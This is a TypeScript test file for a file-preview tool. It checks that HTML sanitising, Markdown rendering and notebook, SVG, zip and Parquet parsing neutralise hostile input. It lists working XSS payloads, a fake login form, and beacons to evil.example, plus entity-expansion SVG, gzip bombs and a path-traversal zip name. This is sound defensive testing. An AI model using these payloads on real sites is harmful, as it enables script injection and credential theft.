import { deflateRawSync, gzipSync } from "node:zlib";
import { parquetWriteBuffer } from "hyparquet-writer";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown.ts";
import { parsePreview } from "./parse-preview.ts";
import { sanitize } from "./sanitize.ts";

const preview = (content: string | Buffer, name: string) =>
	parsePreview({ source: { bytes: Buffer.from(content as string) }, name });

/** What would act in a page, in whatever case and spacing it is written. */
const acting =
	/<(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|template|video|audio)\b|<[^>]*\son\w+\s*=|<[^>]*\b(href|src|action|formaction|srcset|background)\s*=\s*["']?\s*(javascript|vbscript|file|data:text|\/)|<[^>]*\s(style|id|class|name|target|ping)\s*=/i;

const attacks = [
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.example/x.js></sCrIpT>",
	"<img src=x onerror=alert(1)>",
	"<img src=https://evil.example/spy.png>",
	"<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
	"<img srcset='https://evil.example/spy.png 1x' src='data:image/png;base64,AAAA'>",
	"<svg onload=alert(1)><script>alert(1)</script></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
	"<a href='javascript:alert(1)'>x</a>",
	"<a href=' java\nscript:alert(1)'>x</a>",
	"<a href='//evil.example'>x</a>",
	"<a href='data:text/html,<script>alert(1)</script>'>x</a>",
	"<a href='https://ok.example' target=_top ping=https://evil.example onclick=alert(1)>x</a>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<form action=https://evil.example><input name=password><button>Sign in</button></form>",
	"<style>body{display:none}@import 'https://evil.example/x.css'</style>",
	"<div style='position:fixed;inset:0;background:url(https://evil.example)' class='mantine-x' id=root>x</div>",
	"<base href=https://evil.example><link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=//e'>",
	"<details open ontoggle=alert(1)><summary>x</summary></details>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<textarea></textarea><script>alert(1)</script>",
	"<xmp><img src=x onerror=alert(1)></xmp>",
	"<template><script>alert(1)</script></template>",
	"<video><source onerror=alert(1)></video><object data=x></object><embed src=x>",
	"<b>".repeat(5000),
];

describe("HTML of strangers", () => {
	it.each(attacks)("loses all that acts: %s", (html) => {
		expect(sanitize(html)).not.toMatch(acting);
		expect(renderMarkdown(`text ${html}\n\n${html}`)).not.toMatch(acting);
	});

	it("keeps what can be looked at", () => {
		const table = '<table><tr><td colspan="2">1</td></tr></table>';
		expect(sanitize(table)).toBe(table);
		expect(sanitize('<img src="data:image/png;base64,AAAA" alt="a" />')).toContain("data:image/png");
	});

	it("in Markdown is text, and its links and pictures lead to no script and load nothing", () => {
		const html = renderMarkdown(
			"[a](javascript:alert(1)) [b](data:text/html,x) ![p](https://evil.example/spy.png) <javascript:alert(1)> <b>",
		);
		expect(html).not.toMatch(/<a |<img/);
		expect(html).toContain("&lt;b&gt;");
	});
});

describe("a notebook made to act", () => {
	it("shows no script of outputs, no picture that is none, and no end of text", async () => {
		const data = (mime: string, value: string) => ({ output_type: "display_data", data: { [mime]: value } });
		const notebook = {
			nbformat: 4,
			metadata: { language_info: { name: "<script>" } },
			cells: [
				{ cell_type: "markdown", source: attacks.join("\n\n") },
				{
					cell_type: "code",
					source: attacks.join("\n"),
					outputs: [
						...attacks.slice(0, 12).map((attack) => data("text/html", attack)),
						data("application/javascript", "alert(1)"),
						data("image/svg+xml", "<svg onload=alert(1)/>"),
						data("image/png", Buffer.from("<svg onload=alert(1)/>").toString("base64")),
						data("image/png", 'x" onerror="alert(1)'),
						data("text/plain", "x".repeat(2_000_000)),
						{
							output_type: "stream",
							text: "\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007\u001b[2J\u0007",
						},
						{ output_type: 7 },
					],
				},
				{ cell_type: "code", source: { not: "text" }, outputs: "none" },
				null,
				5,
			],
		};
		const shown = await preview(JSON.stringify(notebook), "x.ipynb");
		if (shown.kind !== "notebook") throw new Error(shown.kind);
		const [markdown, code, odd] = shown.notebook.cells;
		expect(markdown?.type === "markdown" && markdown.html).not.toMatch(acting);
		if (code?.type !== "code") throw new Error("no code");
		for (const output of code.outputs) if (output.type === "html") expect(output.html).not.toMatch(acting);
		expect(code.outputs.some(({ type }) => type === "image")).toBe(false);
		const links = code.outputs.find((output) => output.type === "text" && output.spans[0]?.text === "link");
		expect(links).toBeDefined();
		expect(odd).toEqual({ type: "code", source: "", executionCount: null, outputs: [] });
		expect(JSON.stringify(shown).length).toBeLessThan(300_000);
	});

	it("that is cut off or nested without end is text", async () => {
		expect(await preview('{"nbformat": 4, "cells": [', "x.ipynb")).toMatchObject({ kind: "text" });
		const deep = `{"nbformat":4,"cells":${"[".repeat(200_000)}${"]".repeat(200_000)}}`;
		expect((await preview(deep, "x.ipynb")).kind).not.toBe("none");
	});
});

describe("SVG", () => {
	it("that names entities, or copies copies, is its source alone", async () => {
		const laughs = '<!DOCTYPE svg [<!ENTITY a "&b;&b;">]><svg>&a;</svg>';
		expect((await preview(laughs, "x.svg")).kind).toBe("text");
		const copies = Array.from(
			{ length: 9 },
			(_, i) => `<g id="g${i}"><use href="#g${i + 1}"/><use href="#g${i + 1}"/></g>`,
		);
		expect((await preview(`<svg>${copies.join("")}</svg>`, "x.svg")).kind).toBe("text");
	});

	it("with a script is offered as a picture, packed as source", async () => {
		const svg = "<svg onload='alert(1)'><script>alert(1)</script></svg>";
		expect(await preview(svg, "x.svg")).toMatchObject({ kind: "image", mime: "image/svg+xml", source: svg });
		expect(await preview(gzipSync(svg), "x.svg.gz")).toMatchObject({
			kind: "text",
			packing: "gzip",
			text: svg,
		});
	});
});

describe("bombs and giants", () => {
	it.each([
		["text", "x.gz", "A"],
		["table", "x.csv.gz", "a,"],
		["JSON", "x.json.gz", "["],
		["notebook", "x.ipynb.gz", '{"nbformat":4,'],
		["reads", "x.fastq.gz", "@"],
	])("of packed %s stop at the bound", async (_what, name, part) => {
		const bomb = gzipSync(Buffer.alloc(300 << 20, part));
		const shown = await preview(bomb, name);
		expect(JSON.stringify(shown).length).toBeLessThan(1_500_000);
		expect("isWhole" in shown && shown.isWhole).toBe(false);
	});

	it("that are one line, or nested 400,000 deep, are shown in part", async () => {
		const line = await preview("x".repeat(3_000_000), "x.txt");
		expect(line).toMatchObject({ kind: "text", isWhole: false });
		for (const [open, close] of [
			["[", "]"],
			['{"a":', "}"],
		] as const) {
			const deep = await preview(open.repeat(400_000) + close.repeat(400_000), "x.json");
			expect(deep.kind).toBe("json");
			expect(() => structuredClone(deep)).not.toThrow();
		}
		const wide = await preview(`${"a,".repeat(300_000)}\n`.repeat(2), "x.csv");
		expect(JSON.stringify(wide).length).toBeLessThan(50_000);
	});

	it("of pictures are refused by the size that they say", async () => {
		const png = Buffer.from("89504e470d0a1a0a0000000d49484452000186a0000186a008020000000000000000", "hex");
		expect(await preview(png, "x.png")).toEqual({
			kind: "none",
			reason: "PNG picture: 100000 × 100000 pixels would take too much memory to show.",
		});
	});

	it("of Parquet that claim much hold little", async () => {
		const whole = Buffer.from(
			parquetWriteBuffer({ columnData: [{ name: "a", data: [1, 2, 3], type: "INT32" }] }),
		);
		const lying = Buffer.from(whole);
		lying.writeUInt32LE(0xfffffff0, lying.length - 8);
		expect(await preview(lying, "x.parquet")).toMatchObject({ kind: "none" });
	});

	it("of zip list what they say, and unpack nothing", async () => {
		const body = deflateRawSync(Buffer.alloc(50 << 20));
		const shown = await preview(zipOf("../../etc/<script>", body, 0xfffffff0), "x.zip");
		expect(shown).toMatchObject({
			kind: "tables",
			tables: [{ rows: [["../../etc/<script>", "4,294,967,280", expect.any(String)]] }],
		});
	});
});

/** A zip of one entry that may lie about its size. */
function zipOf(name: string, body: Buffer, size: number): Buffer {
	const local = Buffer.alloc(30);
	local.writeUInt32LE(0x04034b50, 0);
	local.writeUInt16LE(8, 8);
	local.writeUInt32LE(body.length, 18);
	local.writeUInt16LE(name.length, 26);
	const central = Buffer.alloc(46);
	central.writeUInt32LE(0x02014b50, 0);
	central.writeUInt16LE(8, 10);
	central.writeUInt32LE(body.length, 20);
	central.writeUInt32LE(size, 24);
	central.writeUInt16LE(name.length, 28);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(1, 8);
	end.writeUInt16LE(1, 10);
	end.writeUInt32LE(46 + name.length, 12);
	end.writeUInt32LE(30 + name.length + body.length, 16);
	return Buffer.concat([local, Buffer.from(name), body, central, Buffer.from(name), end]);
}

describe("damaged files of every kind", () => {
	const good: [name: string, bytes: Buffer][] = [
		["x.csv", Buffer.from('a,b\n"1,2\n')],
		["x.csv.gz", gzipSync("a,b\n1,2\n".repeat(50))],
		["x.json", Buffer.from('{"a": [1, 2, {"b": "c\\u00e9"}]}')],
		["x.jsonl", Buffer.from('{"a": 1}\n{"a": 2}\n')],
		[
			"x.ipynb",
			Buffer.from('{"nbformat": 4, "cells": [{"cell_type": "code", "source": "1", "outputs": []}]}'),
		],
		["x.fastq", Buffer.from("@r\nACGT\n+\nIIII\n@s\nAC\n+\nII\n")],
		["x.fa", Buffer.from(">a b\nACGT\n>c\nAC\n")],
		["x.sam", Buffer.from("@HD\tVN:1.6\n@SQ\tSN:1\tLN:5\nr\t0\t1\t1\t9\t4M\t*\t0\t0\tACGT\tIIII\n")],
		["x.vcf", Buffer.from("##fileformat=VCFv4.2\n#CHROM\tPOS\n1\t2\n")],
		["x.bam", gzipSync(Buffer.concat([Buffer.from("BAM\x01\x08\0\0\0@HD\tVN:1"), Buffer.alloc(16)]))],
		["x.svg", Buffer.from("<svg><g id='a'/></svg>")],
		["x.md", Buffer.from("# a\n\n[b](c)")],
		["x.zip", zipOf("a.txt", deflateRawSync("a"), 1)],
		["x.tar", tarOf("a.txt", "hello")],
		["x.gif", Buffer.from("GIF89a\x01\0\x01\0\0\0\0", "latin1")],
		["x.jpg", Buffer.from("ffd8ffe000104a46494600010100000100010000ffc0000b080001000101011100", "hex")],
		["x.webp", Buffer.from("RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\0\0\0\0", "latin1")],
	];

	it.each(good)("%s: every cut and every flipped byte gives a preview or a reason", async (name, bytes) => {
		const wrong: string[] = [];
		const step = Math.max(1, Math.floor(bytes.length / 60));
		for (let at = 0; at < bytes.length; at += step) {
			const flipped = Buffer.from(bytes);
			flipped[at] = (flipped[at] ?? 0) ^ 0xff;
			for (const broken of [bytes.subarray(0, at), flipped]) {
				const shown = await preview(broken, name);
				if (shown.kind === "none" && shown.reason === "") wrong.push(`${name} at ${at}`);
				structuredClone(shown);
			}
		}
		expect(wrong).toEqual([]);
	});
});

function tarOf(name: string, text: string): Buffer {
	const header = Buffer.alloc(512);
	header.write(name, 0);
	header.write(text.length.toString(8).padStart(11, "0"), 124);
	header.write("0", 156);
	header.write("ustar\x0000", 257);
	return Buffer.concat([header, Buffer.from(text.padEnd(512, "\0")), Buffer.alloc(1024)]);
}
